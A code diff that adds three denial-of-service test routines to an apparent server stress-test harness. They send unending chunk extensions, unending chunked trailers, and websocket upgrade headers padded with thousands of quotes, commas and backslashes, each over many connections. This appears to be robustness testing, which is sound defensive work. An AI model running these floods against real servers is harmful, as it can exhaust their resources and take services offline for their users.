@@ -91,6 +91,40 @@ def small_chunks(target: Target) -> None:
 
 
 @attack()
+def long_chunk_extensions(target: Target) -> None:
+    """Sends a chunk's extension without end, on 100 connections."""
+    head = HEAD.replace(b"GET /", b"POST /upload")
+    head += b"Transfer-Encoding: chunked\r\n\r\n1;x="
+    target.flood(opened(target, 100, head), b"x" * 100_000)
+
+
+@attack()
+def trailers_without_end(target: Target) -> None:
+    """Sends trailer fields without end, on 100 connections."""
+    head = HEAD.replace(b"GET /", b"POST /upload")
+    head += b"Transfer-Encoding: chunked\r\n\r\n0\r\n"
+    target.flood(opened(target, 100, head), 10_000 * b"a: b\r\n")
+
+
+@attack()
+def hostile_fields(target: Target) -> None:
+    """Asks for websockets with long lists, quotes and backslashes in their fields."""
+    extensions = (
+        *('x; a="' + "\\\\" * 3_000, "x;" * 3_000, "permessage-deflate; a, " * 300),
+        *("," * 6_000, 'x; a="' + ' "' * 3_000, "x" + " " * 6_000 + ";"),
+    )
+    subprotocols = ("wamp.2.nothing, " * 400, "," * 6_000, " " * 6_000 + "x")
+
+    def once() -> None:
+        for extension in extensions:
+            target.connect().sendall(upgrade("/echo", "", extension))
+        for subprotocol in subprotocols:
+            target.connect().sendall(upgrade("/echo", subprotocol))
+
+    again(target, once)
+
+
+@attack()
 def responses_that_nobody_reads(target: Target) -> None:
     """Asks for 5 MB on 200 connections, and does not read."""
     opened(target, 200, HEAD.replace(b" / ", b" /download ") + b"\r\n")
